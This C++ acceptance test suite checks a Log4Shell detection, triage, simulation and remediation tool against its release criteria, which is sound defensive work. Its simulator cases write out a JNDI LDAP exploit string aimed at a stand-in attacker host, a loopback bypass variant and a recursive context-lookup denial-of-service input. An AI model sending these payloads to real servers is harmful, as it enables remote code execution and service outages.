// Acceptance suite: runs every release criterion at its stated tolerance and
// prints one PASS/FAIL line per criterion. Exits nonzero if any fail.

#include <algorithm>
#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <iostream>
#include <random>
#include <set>
#include <sstream>
#include <string>
#include <unistd.h>
#include <variant>
#include <vector>

#include "shellstop/assess.hpp"
#include "shellstop/cve.hpp"
#include "shellstop/detect.hpp"
#include "shellstop/json_io.hpp"
#include "shellstop/lookup.hpp"
#include "shellstop/simulate.hpp"
#include "shellstop/zip.hpp"
#include "support/generators.hpp"
#include "support/rewrite_oracle.hpp"
#include "support/zip_builder.hpp"

using namespace shellstop;
namespace fs = std::filesystem;
using Clock = std::chrono::steady_clock;

namespace {

int g_failures = 0;

void report(int criterion, const std::string& name, bool ok, const std::string& detail) {
  std::printf("%s  criterion %d: %-24s %s\n", ok ? "PASS" : "FAIL", criterion, name.c_str(),
              detail.c_str());
  if (!ok) ++g_failures;
}

long ms_since(Clock::time_point start) {
  return std::chrono::duration_cast<std::chrono::milliseconds>(Clock::now() - start).count();
}

struct CorpusEntry {
  bool obfuscated;
  std::string payload;
};

std::vector<CorpusEntry> load_exploit_corpus() {
  std::ifstream in(std::string(SHELLSTOP_DATA_DIR) + "/exploit_corpus.tsv");
  std::vector<CorpusEntry> entries;
  std::string line;
  while (std::getline(in, line)) {
    if (line.empty()) continue;
    const auto tab = line.find('\t');
    entries.push_back({line.substr(0, tab) == "obfuscated", line.substr(tab + 1)});
  }
  return entries;
}

std::vector<std::string> load_benign_corpus() {
  std::ifstream in(std::string(SHELLSTOP_DATA_DIR) + "/benign_corpus.txt");
  std::vector<std::string> lines;
  std::string line;
  while (std::getline(in, line)) lines.push_back(line);
  return lines;
}

fs::path scratch_dir() {
  const fs::path dir =
      fs::temp_directory_path() / ("shellstop-accept-" + std::to_string(::getpid()));
  fs::create_directories(dir);
  return dir;
}

// 1. Committed corpora: every exploit variant flagged, no benign line flagged,
//    inside one second.
void criterion_detector_corpus() {
  const auto rules = RuleSet::defaults();
  const auto exploits = load_exploit_corpus();
  const auto benign = load_benign_corpus();
  const auto start = Clock::now();
  std::size_t exploit_hits = 0;
  for (const auto& e : exploits)
    if (detect(e.payload, rules).verdict == Verdict::Exploit) ++exploit_hits;
  std::size_t benign_exploits = 0;
  for (const auto& line : benign)
    if (detect(line, rules).verdict == Verdict::Exploit) ++benign_exploits;
  const long elapsed = ms_since(start);
  const bool ok = exploits.size() >= 30 && benign.size() >= 100 &&
                  exploit_hits == exploits.size() && benign_exploits == 0 && elapsed < 1000;
  std::ostringstream detail;
  detail << exploit_hits << "/" << exploits.size() << " exploit variants, " << benign_exploits
         << " false positives on " << benign.size() << " benign lines, " << elapsed << "ms";
  report(1, "detector corpus", ok, detail.str());
}

// 2. Every obfuscated corpus entry slips past the naive rules yet is detected.
void criterion_evasion_dominance() {
  const auto rules = RuleSet::defaults();
  std::size_t total = 0, evading = 0, detected = 0;
  for (const auto& e : load_exploit_corpus()) {
    if (!e.obfuscated) continue;
    ++total;
    if (!naive_match(e.payload, rules)) ++evading;
    if (detect(e.payload, rules).verdict == Verdict::Exploit) ++detected;
  }
  const bool ok = total > 0 && evading == total && detected == total;
  std::ostringstream detail;
  detail << evading << "/" << total << " evade naive rules, " << detected << "/" << total
         << " still detected";
  report(2, "evasion dominance", ok, detail.str());
}

// 3. AST evaluator vs. independent rewriting oracle, and parser roundtrip.
void criterion_evaluator_oracle() {
  std::mt19937 rng(20211209);
  std::size_t oracle_matches = 0;
  const int oracle_cases = 1000;
  for (int i = 0; i < oracle_cases; ++i) {
    const std::string s = gen::random_template(rng, 4);
    EvalContext ctx = EvalContext::with_defaults(VersionProfile::preset("2.14.1"));
    ctx.environment = gen::fixed_env();
    if (evaluate(s, ctx, EvalSource::LogMessage).text == oracle::rewrite(s, gen::fixed_env()))
      ++oracle_matches;
  }
  std::size_t roundtrips = 0;
  const int roundtrip_cases = 10000;
  for (int i = 0; i < roundtrip_cases; ++i) {
    const std::string s = gen::random_bytes(rng, 64);
    if (render(parse(s)) == s) ++roundtrips;
  }
  const bool ok = oracle_matches == oracle_cases && roundtrips == roundtrip_cases;
  std::ostringstream detail;
  detail << oracle_matches << "/" << oracle_cases << " oracle matches, " << roundtrips << "/"
         << roundtrip_cases << " roundtrips";
  report(3, "evaluator oracle", ok, detail.str());
}

// 4. Advisory table reproduced exactly on the boundary versions.
void criterion_cve_boundaries() {
  using Set = std::set<std::string>;
  const Set kAll = {"CVE-2021-44228", "CVE-2021-44832", "CVE-2021-45046"};
  const std::vector<std::pair<const char*, Set>> expected = {
      {"2.0-beta7", {"CVE-2021-44832"}},
      {"2.0-beta8", {"CVE-2021-44832"}},
      {"2.0-beta9", kAll},
      {"2.3.2", {"CVE-2021-44228", "CVE-2021-45046"}},
      {"2.12.2", {"CVE-2021-44228", "CVE-2021-44832"}},
      {"2.12.4", {"CVE-2021-44228", "CVE-2021-45046"}},
      {"2.14.1", kAll},
      {"2.15.0", kAll},
      {"2.16.0", {"CVE-2021-44832"}},
      {"2.17.0", {"CVE-2021-44832"}},
      {"2.17.1", {}},
  };
  std::size_t mismatches = 0;
  for (const auto& [text, want] : expected)
    if (cve_matches(parse_version(text)) != want) ++mismatches;
  std::ostringstream detail;
  detail << expected.size() - mismatches << "/" << expected.size() << " versions exact";
  report(4, "cve table boundaries", mismatches == 0, detail.str());
}

// 5. Every terminal of the triage flow is reachable with the documented edge.
void criterion_flowchart_paths() {
  std::size_t ok_paths = 0;
  auto check = [&](const Asset& a, VerdictClass want) {
    if (assess(a, AssessMode::Flowchart).verdict == want) ++ok_paths;
  };
  Asset not_listed{.name = "a"};
  check(not_listed, VerdictClass::LikelyNotVulnerable);
  Asset patched216{.name = "b", .version = parse_version("2.16.0"), .on_vulnerable_apps_list = true};
  check(patched216, VerdictClass::NotVulnerable);
  Asset patched2122{.name = "c", .version = parse_version("2.12.2"), .found_by_scanner = true};
  check(patched2122, VerdictClass::NotVulnerable);
  Asset patched215{.name = "d", .version = parse_version("2.15.0"), .on_vulnerable_apps_list = true};
  check(patched215, VerdictClass::LikelyNotVulnerable);
  Asset fmnl{.name = "e",
             .version = parse_version("2.14.1"),
             .on_vulnerable_apps_list = true,
             .format_msg_no_lookups_set = true};
  check(fmnl, VerdictClass::LikelyNotVulnerable);
  Asset exposed{.name = "f", .version = parse_version("2.14.1"), .found_by_scanner = true};
  check(exposed, VerdictClass::Vulnerable);
  std::ostringstream detail;
  detail << ok_paths << "/6 terminal paths";
  report(5, "triage flow coverage", ok_paths == 6, detail.str());
}

// 6. Simulator terminals across the preset matrix plus the special scenarios,
//    byte-deterministic over three runs.
void criterion_simulator_matrix() {
  const std::string exploit = "${jndi:ldap://exampleattacker.com/a}";
  struct Case {
    std::string name;
    ScenarioConfig cfg;
    Terminal want;
  };
  std::vector<Case> cases;
  auto preset_case = [&](const char* version, Terminal want) {
    ScenarioConfig cfg;
    cfg.victim_profile = VersionProfile::preset(version);
    cfg.payload_string = exploit;
    cases.push_back({version, cfg, want});
  };
  preset_case("2.14.1", Terminal::ObjectiveExecuted);
  preset_case("2.15.0", Terminal::NoLookupTriggered);
  preset_case("2.16.0", Terminal::NoLookupTriggered);
  preset_case("2.17.0", Terminal::NoLookupTriggered);
  preset_case("2.17.1", Terminal::NoLookupTriggered);

  ScenarioConfig bypass;
  bypass.victim_profile = VersionProfile::preset("2.15.0");
  bypass.victim_profile.context_pattern_lookup_enabled = true;
  bypass.payload_string = "${jndi:ldap://localhost/a}";
  bypass.attacker_host = "localhost";
  cases.push_back({"2.15.0 context bypass, loopback", bypass, Terminal::ObjectiveExecuted});

  ScenarioConfig bypass_remote = bypass;
  bypass_remote.payload_string = exploit;
  bypass_remote.attacker_host = "exampleattacker.com";
  cases.push_back({"2.15.0 context bypass, remote", bypass_remote, Terminal::NoLookupTriggered});

  ScenarioConfig down;
  down.victim_profile = VersionProfile::preset("2.14.1");
  down.payload_string = exploit;
  down.ldap_server_up = false;
  cases.push_back({"directory down", down, Terminal::LdapUnreachable});

  ScenarioConfig fire_walled;
  fire_walled.victim_profile = VersionProfile::preset("2.14.1");
  fire_walled.payload_string = exploit;
  fire_walled.detector_inline = true;
  cases.push_back({"inline detector", fire_walled, Terminal::BlockedAtP1});

  std::size_t ok_cases = 0;
  bool deterministic = true;
  for (const auto& c : cases) {
    const AttackTrace first = run_scenario(c.cfg);
    if (first.terminal == c.want) ++ok_cases;
    const std::string bytes = to_json(first).dump();
    for (int i = 0; i < 2; ++i)
      if (to_json(run_scenario(c.cfg)).dump() != bytes) deterministic = false;
  }

  // Denial-of-service path: a self-referential context value on a release
  // without recursion detection must overflow.
  ScenarioConfig dos;
  dos.victim_profile = VersionProfile::preset("2.16.0");
  dos.victim_profile.context_pattern_lookup_enabled = true;
  dos.payload_string = "${ctx:userAgent}";
  const VictimResult vr = victim_handle(dos.payload_string, dos.victim_profile, std::nullopt);
  const bool dos_ok = vr.error == EvalError::RecursionOverflow &&
                      run_scenario(dos).terminal == Terminal::NoLookupTriggered;

  const bool ok = ok_cases == cases.size() && dos_ok && deterministic;
  std::ostringstream detail;
  detail << ok_cases << "/" << cases.size() << " terminals, dos "
         << (dos_ok ? "overflows" : "MISSED") << ", "
         << (deterministic ? "deterministic x3" : "NONDETERMINISTIC");
  report(6, "simulator matrix", ok, detail.str());
}

// 7. Upgrade targets per runtime generation and the ordered tactics list.
void criterion_remediation_matrix() {
  Asset a{.name = "svc"};
  a.java_major = JavaMajor::Java8Plus;
  const bool j8 = recommend(a).upgrade_target == Log4jVersion{2, 17, 1};
  a.java_major = JavaMajor::Java7;
  const bool j7 = recommend(a).upgrade_target == Log4jVersion{2, 12, 4};
  a.java_major = JavaMajor::Java6;
  const bool j6 = recommend(a).upgrade_target == Log4jVersion{2, 3, 2};
  const auto tactics = recommend(a).tactics;
  const bool tactics_ok =
      tactics == std::vector<std::string>(cisa_tactics().begin(), cisa_tactics().end()) &&
      tactics.size() == 5;
  std::ostringstream detail;
  detail << "targets " << (j8 && j7 && j6 ? "3/3" : "WRONG") << ", tactics "
         << (tactics_ok ? "5 in order" : "WRONG");
  report(7, "remediation matrix", j8 && j7 && j6 && tactics_ok, detail.str());
}

// 8. Strip the lookup class from a three-member fixture; verify with an
//    unrelated reader; surviving bytes hash-identical; advisory set shrinks.
void criterion_archive_surgery() {
  const auto dir = scratch_dir();
  const auto jar = dir / "log4j-core-2.14.1.jar";
  const auto stripped = dir / "log4j-core-2.14.1.stripped.jar";
  zipfix::write_file(jar, zipfix::log4j_core_members());

  bool strip_ok = false;
  try {
    const auto rep = strip_member(jar, kJndiLookupMember, stripped);
    strip_ok = rep.removed.size() == 1 && rep.kept.size() == 2;
  } catch (const std::exception&) {
    strip_ok = false;
  }

  const auto names = strip_ok ? list_members(stripped) : std::vector<std::string>{};
  const bool member_gone =
      strip_ok && names.size() == 2 &&
      std::find(names.begin(), names.end(), std::string(kJndiLookupMember)) == names.end();

  // Independent verification: python's zipfile tests the archive and compares
  // each survivor's decompressed bytes against the original.
  const auto script = dir / "verify_zip.py";
  std::ofstream(script) << R"(import sys, zipfile, hashlib
orig, stripped, removed = sys.argv[1], sys.argv[2], sys.argv[3]
zo, zs = zipfile.ZipFile(orig), zipfile.ZipFile(stripped)
assert zs.testzip() is None
names_o, names_s = zo.namelist(), zs.namelist()
assert removed in names_o and removed not in names_s
assert names_s == [n for n in names_o if n != removed]
for n in names_s:
    if hashlib.sha256(zo.read(n)).hexdigest() != hashlib.sha256(zs.read(n)).hexdigest():
        sys.exit(2)
print("ok")
)";
  const std::string cmd = "python3 " + script.string() + " " + jar.string() + " " +
                          stripped.string() + " " + std::string(kJndiLookupMember) +
                          " >/dev/null 2>&1";
  const bool independent_ok = strip_ok && std::system(cmd.c_str()) == 0;

  Asset asset{.name = stripped.string(), .version = parse_version("2.14.1"),
              .found_by_scanner = true};
  asset.jndilookup_member_present = false;
  const auto verdict = assess(asset, AssessMode::CveTable);
  const bool cve_dropped = verdict.applicable_cves.count("CVE-2021-44228") == 0 &&
                           verdict.applicable_cves.count("CVE-2021-45046") == 0 &&
                           verdict.applicable_cves.count("CVE-2021-44832") == 1;

  const bool ok = strip_ok && member_gone && independent_ok && cve_dropped;
  std::ostringstream detail;
  detail << (member_gone ? "member removed" : "REMOVE FAILED") << ", independent reader "
         << (independent_ok ? "ok" : "FAILED") << ", advisory set "
         << (cve_dropped ? "drops CVE-2021-44228" : "WRONG");
  report(8, "archive surgery", ok, detail.str());
}

// 9. The whole suite (unit binary plus these criteria) stays under a minute.
void criterion_suite_runtime(Clock::time_point suite_start) {
#ifdef SHELLSTOP_UNIT_BIN
  const std::string cmd = std::string(SHELLSTOP_UNIT_BIN) + " >/dev/null 2>&1";
  const int unit_status = std::system(cmd.c_str());
  const bool unit_ok = unit_status == 0;
#else
  const bool unit_ok = false;
#endif
  const long total_ms = ms_since(suite_start);
  const bool ok = unit_ok && total_ms < 60000;
  std::ostringstream detail;
  detail << "unit suite " << (unit_ok ? "green" : "FAILED") << ", total " << total_ms << "ms";
  report(9, "suite runtime", ok, detail.str());
}

}  // namespace

int main() {
  const auto start = Clock::now();
  criterion_detector_corpus();
  criterion_evasion_dominance();
  criterion_evaluator_oracle();
  criterion_cve_boundaries();
  criterion_flowchart_paths();
  criterion_simulator_matrix();
  criterion_remediation_matrix();
  criterion_archive_surgery();
  criterion_suite_runtime(start);
  if (g_failures != 0) {
    std::printf("%d criterion(s) failed\n", g_failures);
    return 1;
  }
  std::printf("all criteria passed\n");
  return 0;
}
